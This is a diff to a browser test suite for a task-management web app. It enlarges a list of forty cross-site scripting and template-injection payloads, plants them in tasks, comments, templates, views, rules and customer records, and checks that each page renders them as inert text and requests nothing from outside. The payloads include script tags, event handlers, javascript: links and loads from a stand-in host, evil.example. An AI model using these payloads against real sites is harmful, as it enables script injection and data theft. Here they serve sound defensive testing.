@@ -23,11 +23,25 @@ LOOKS: dict[str, dict[str, Any]] = {
     "narrow": {"viewport": {"width": 320, "height": 640}, "has_touch": True},
     "forced colours": {"forced_colors": "active"},
 }
+CUSTOMER = {"type": "customer", "id": "cus_attack"}
+OWN = "document.title='owned'"
+# Forty ways in which text has become a script somewhere: elements, attributes, addresses, templates, styles, and names.
 ATTACKS = (
-    "<script>document.title='owned'</script>", "<img src=x onerror=\"document.title='owned'\">",
-    "\"><svg onload=document.title='owned'>", "javascript:document.title='owned'", "{{constructor.constructor('1')()}}",
-    "</title><script src=//evil.example/x.js></script>", "<iframe srcdoc='<script>parent.document.title=1</script>'>",
-    "txt.exe \U0001f600 \u05e9\u05dc\u05d5\u05dd",
+    f"<script>{OWN}</script>", f'<img src=x onerror="{OWN}">', f'"><svg onload={OWN}>', f"javascript:{OWN}",
+    "{{constructor.constructor('1')()}}", "</title><script src=//evil.example/x.js></script>",
+    "<iframe srcdoc='<script>parent.document.title=1</script>'>", "txt.exe \U0001f600 \u05e9\u05dc\u05d5\u05dd",
+    f"<body onload={OWN}>", f"<details open ontoggle={OWN}>", f"<input autofocus onfocus={OWN}>",
+    f"<video><source onerror={OWN}>", f"<marquee onstart={OWN}>", f"<a href=javascript:{OWN}>here</a>",
+    "<a href='//evil.example'>here</a>", f"<object data=javascript:{OWN}>", "<embed src=//evil.example/x.swf>",
+    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
+    f"<form action=javascript:{OWN}><button>go</button></form>", "<math><mi xlink:href='data:x,<script>1</script>'>",
+    f"<svg><script>{OWN}</script></svg>", f"<svg><animate onbegin={OWN} attributeName=x>",
+    f"<img srcset='//evil.example/x 1x' onerror={OWN}>", "<img src=//evil.example/pixel.gif>",
+    f"<template><img src=x onerror={OWN}></template>", f"<noscript><img src=x onerror={OWN}></noscript>",
+    f"<textarea></textarea><img src=x onerror={OWN}>", f"<!--><img src=x onerror={OWN}>-->", f"';{OWN};//",
+    f'";{OWN};//', f"`${{{OWN}}}`", f"${{{OWN}}}", "#{7*7} <%= 7*7 %> {7*7}", f"&lt;script&gt;{OWN}&lt;/script&gt;",
+    f"\\u003cscript\\u003e{OWN}", f"data:text/html,<script>{OWN}</script>", f"[here](javascript:{OWN})",
 )  # fmt: skip
 
 
@@ -102,27 +116,43 @@ def test_nothing_scrolls_sideways_on_a_narrow_screen(open_page: OpenPage) -> Non
         assert page.evaluate("document.documentElement.scrollWidth") <= 320, path
 
 
-def test_text_from_outside_stays_text_and_nothing_is_fetched_from_elsewhere(desk: Desk, open_page: OpenPage) -> None:
+@pytest.fixture(scope="module")
+def attacked(desk: Desk) -> tuple[str, int]:
+    """Every text that others see has an attack in it, or all of them; a source and a task that have."""
+    assert len(set(ATTACKS)) == 40
+    everything = "\n".join(ATTACKS)
     desk.suggest(list(ATTACKS))
-    source = desk.read("\n".join(f"Anna Li: I'll send {attack} to Bob." for attack in ATTACKS), ATTACKS[0])
-    for attack in ATTACKS:
-        task = desk.call("POST", "/api/tasks", {"title": attack, "description": attack, "tags": [attack[:40]]})["task"]
-        desk.call("POST", f"/api/tasks/{task['id']}/comments", {"text": attack})
+    lines = "\n".join(f"Anna Li: I'll send {attack} to Bob." for attack in ATTACKS)
+    source = desk.read(lines, ATTACKS[0])
+    desk.call("PUT", "/api/resources/customer/cus_attack", {"name": ATTACKS[1]})
+    body = {"title": ATTACKS[2], "description": everything, "tags": [ATTACKS[3]], "links": [CUSTOMER]}
+    task = desk.call("POST", "/api/tasks", body)["task"]
+    desk.call("POST", f"/api/tasks/{task['id']}/comments", {"text": everything})
+    items = [{"title": attack} for attack in ATTACKS]
+    template = desk.call("POST", "/api/tasks/templates", {"name": ATTACKS[4], "items": items})["template"]
+    desk.call("POST", f"/api/tasks/templates/{template['id']}/apply", {"anchor_date": "2026-01-05"})
+    desk.call("POST", "/api/views", {"name": ATTACKS[5], "query": "overdue=1", "is_shared": True})
+    rule = {"name": ATTACKS[6], "trigger": "task_overdue", "actions": {"priority": "urgent"}, "is_active": False}
+    desk.call("POST", "/api/rules", rule)
+    return source, task["number"]
+
+
+def test_text_from_outside_stays_text_and_nothing_is_fetched_from_elsewhere(
+    desk: Desk, open_page: OpenPage, attacked: tuple[str, int]
+) -> None:
+    source, number = attacked
     page = open_page("/review/none")
     outside: list[str] = []
     page.on("request", lambda sent: None if sent.url.startswith((desk.address, "blob:")) else outside.append(sent.url))
     for path in (
-        "/review/none",
-        f"/inbox/{source}",
-        "/inbox",
-        "/tasks",
-        f"/t/{task['number']}",
-        "/organizations/x/tasks",
-    ):
+        "/review/none", f"/review/{source}", f"/inbox/{source}", "/inbox", "/tasks", f"/t/{number}",
+        "/organizations/x/tasks?view=kanban", "/organizations/x/tasks?view=list", "/templates", "/customers",
+        "/customers/cus_attack", "/settings/rules",
+    ):  # fmt: skip
         show(page, path)
         assert page.title() != "owned"
         assert page.evaluate("window.violations") == []
-        assert page.locator("main iframe, main img, main script").count() == 0
+        assert page.locator("main iframe, main img, main script, main object, main embed, main style").count() == 0
     assert outside == []
 
 
@@ -134,7 +164,7 @@ def test_files_are_handed_in_with_a_result_for_each(open_page: OpenPage, desk: D
             "mimeType": "text/plain",
             "buffer": f"Anna Li: I'll paint room {number} by Friday.".encode(),
         }
-        for number in range(3)
+        for number in range(9)
     ]
     bad = {"name": "empty.txt", "mimeType": "text/plain", "buffer": b""}
     page.set_input_files("input[type=file]", [*good, bad])
@@ -144,9 +174,9 @@ def test_files_are_handed_in_with_a_result_for_each(open_page: OpenPage, desk: D
         return page.locator(".uploads .inbox-outcome").all_inner_texts()
 
     wait_until(
-        lambda: sum("suggestion waits" in each for each in outcomes()) == 3, seconds=PATIENCE, what="three are read"
+        lambda: sum("suggestion waits" in each for each in outcomes()) == 9, seconds=PATIENCE, what="nine are read"
     )
-    assert len(outcomes()) == 4
+    assert len(outcomes()) == 10
     wait_for_count(page, ".uploads .bad-text", 1)
 
 
